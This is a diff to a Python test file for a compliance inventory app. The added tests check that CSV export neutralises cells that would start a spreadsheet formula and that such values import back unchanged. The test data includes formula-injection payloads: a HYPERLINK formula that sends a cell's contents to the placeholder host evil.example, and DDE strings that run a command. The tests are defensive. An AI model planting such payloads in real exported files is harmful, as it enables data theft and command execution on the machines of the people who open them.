@@ -116,6 +116,69 @@ def test_export_then_import_changes_nothing(inventory, carol, agency_a, ctx):
     assert systems_export_csv(ctx=fta) == exported
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "component": "+cmd|' /C calc'!A0",
+    "system_owner": "-2+3",
+    "authorizing_official": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_neutralises_cells_that_would_start_a_formula(inventory, carol, agency_a, ctx):
+    for field, value in FORMULAS.items():
+        setattr(inventory, field, value)
+    inventory.host_patterns = ["=1+1", "web-*.store.example.gov"]
+    inventory.k8s_clusters = ["\tprod-east"]
+    inventory.k8s_namespaces = ["\rstore"]
+    inventory.image_repositories = ["'=already quoted"]
+    inventory.save()
+    exported = systems_export_csv(ctx=ctx(carol, agency_a))
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))  # a cell holds a CR
+    web = rows[1]
+    for field, value in FORMULAS.items():
+        assert web[field] == "'" + value, field
+    assert web["host_patterns"] == "'=1+1;web-*.store.example.gov"
+    assert web["k8s_clusters"] == "'\tprod-east"
+    assert web["k8s_namespaces"] == "'\rstore"
+    assert web["image_repositories"] == "''=already quoted"
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+
+
+def test_an_export_with_formula_cells_imports_back_unchanged(inventory, carol, agency_a, ctx):
+    fta = ctx(carol, agency_a)
+    for field, value in FORMULAS.items():
+        setattr(inventory, field, value)
+    inventory.host_patterns = ["=1+1", "-web-*"]
+    inventory.image_repositories = ["'=already quoted"]
+    inventory.save()
+    exported = systems_export_csv(ctx=fta)
+    before = list(InformationSystem.objects.order_by("pk").values())
+    result = systems_file_import(upload(exported), ctx=fta)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
+    assert list(InformationSystem.objects.order_by("pk").values()) == before
+    assert systems_export_csv(ctx=fta) == exported
+
+
+@pytest.mark.parametrize(
+    "value", ["", "'", "''", "=", "'=", "''-1", "a=b", "'s-Hertogenbosch", "@x", "\t", "+"]
+)
+def test_csv_cells_read_back_as_written(value):
+    from compliance.tabular import csv_cell, csv_uncell
+
+    assert csv_uncell(csv_cell(value)) == value
+    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_a_quote_before_a_formula_character_is_read_as_the_spreadsheets(carol, agency_a, ctx):
+    text = "acronym,name,confidentiality,integrity,availability,system_owner\n"
+    text += "FTA-Q,'=Quoted,low,low,low,'Brien\n"
+    systems_file_import(upload(text), ctx=ctx(carol, agency_a))
+    system = InformationSystem.objects.get(acronym="FTA-Q")
+    assert (system.name, system.system_owner) == ("=Quoted", "'Brien")
+
+
 def test_import_creates_updates_and_assigns_isso(inventory, carol, dave, agency_a, ctx):
     fta = ctx(carol, agency_a)
     rows = rows_of(systems_export_csv(ctx=fta))
@@ -382,13 +445,13 @@ def test_reimporting_assessments_records_nothing_twice(web_system, carol, agency
 @pytest.mark.parametrize(
     ("row", "message"),
     [
-        (a_row(assessed_at="2025-10-01T09:00:00Z"), "line 3: assessed_at cannot be in the future"),
+        (a_row(assessed_at="2025-10-01T09:00:00Z"), "line 3: Assessed at cannot be in the future"),
         (a_row(control="10.9.9"), "line 3: control: no control '10.9.9' in PCI DSS (4.0)"),
         (a_row(), "line 3: the same system, control and time as line 2"),
         (a_row(assessed_at="2025-06-01T09:00:00"), "line 3: assessed_at: needs a UTC offset"),
         (a_row(assessed_at="2025-06-01 09:00 Mars/Olympus"), "line 3: assessed_at: unknown time"),
-        (a_row(status="great"), "line 3: status: 'great' is not one of"),
-        (a_row(method="guess"), "line 3: method: 'guess' is not one of"),
+        (a_row(status="great"), "line 3: Status: 'great' is not one of"),
+        (a_row(method="guess"), "line 3: Method: 'guess' is not one of"),
         (a_row(assessor="bob"), "line 3: assessor: 'bob' holds no role in the agency"),
         (a_row(system="OTA-WEB"), "line 3: system: no system 'OTA-WEB' in FTA"),
         (a_row(framework="Nonesuch"), "line 3: framework: no framework 'Nonesuch'"),
@@ -594,7 +657,7 @@ def results_body(document):
         ),
         (
             lambda d: results_body(d).update(end="2025-12-01T00:00:00Z"),
-            "assessment-results.results[0].findings[1]: assessed_at cannot be in the future",
+            "assessment-results.results[0].findings[1]: Assessed at cannot be in the future",
         ),
     ],
     ids=["no-target-id", "unknown-control", "no-system", "observation", "future"],
